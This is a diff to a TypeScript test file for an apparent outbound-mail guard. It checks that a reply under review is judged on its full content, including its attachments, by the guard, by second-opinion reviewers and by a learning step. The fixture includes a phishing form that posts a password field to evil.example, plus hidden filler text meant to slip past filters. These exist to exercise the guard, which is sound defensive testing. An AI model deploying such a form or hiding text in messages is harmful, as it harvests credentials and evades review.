@@ -5,7 +5,7 @@ import { readDays } from '../../../src/accounts/outcome-counting.js'
 import { accountPartition } from '../../../src/accounts/record.js'
 import { learnerOf } from '../../../src/daemon/parts/review.js'
 import { openCorrection } from '../../../src/guard/verdict/correction.js'
-import type { GuardVerdict } from '../../../src/guard/types.js'
+import type { GuardSubject, GuardVerdict } from '../../../src/guard/types.js'
 import { DAY, HOUR } from '../../../src/lib/clock.js'
 import { encode, key } from '../../../src/store/keys.js'
 import { createStore } from '../../../src/store/store.js'
@@ -206,3 +206,34 @@ for (const moment of ['before', 'after'] as const) {
     })
   }
 }
+
+onEveryEngine('a message is judged again by the facts of its sending, whoever asks', async (t, world) => {
+  const { reviewing, told } = reviewIn(world)
+  const parent = await world.deliver({ text: 'What does it cost?', headers: ['Message-ID: <q@example.org>'] })
+  othersSay(world, HELD_BY_GUARD)
+  const page = '<form action="https://evil.example/"><input type="password" name="p"></form>'
+  const answer = {
+    text: `${TEXT}\n\nOn Monday, Ada wrote:\n> What does it cost?\n> Nothing was said about this.`,
+    html: `<p>${TEXT}</p><div style="display:none">${'hidden words '.repeat(40)}</div>`,
+    attachments: [{ filename: 'page.html', contentType: 'text/html', content: Buffer.from(page) }],
+    all: false,
+  }
+  const asked: GuardSubject[] = []
+  world.guard.others = {
+    ...world.guard.others,
+    ask: async (subject) => {
+      asked.push(subject)
+      return HELD_BY_GUARD
+    },
+  }
+  const sent = accepted(await world.mailboxes.sending.reply(world.id, parent.id, answer, {}))
+  const first = world.guard.asked.at(-1)
+  t.match(first, { parentText: /What does it cost/, attachments: [{ filename: 'page.html' }] })
+  t.ok(first?.attachments[0]?.file, 'what its file contains is known')
+  await world.mailboxes.outbound.runCheck(world.id, sent.id)
+  t.same(asked, [first], 'by second opinions')
+  const review = await reviewing.read(sent.id)
+  t.ok(review)
+  await reviewing.reject(sent.id, BY)
+  t.same(told.at(-1)?.subject, first, 'by learning')
+})
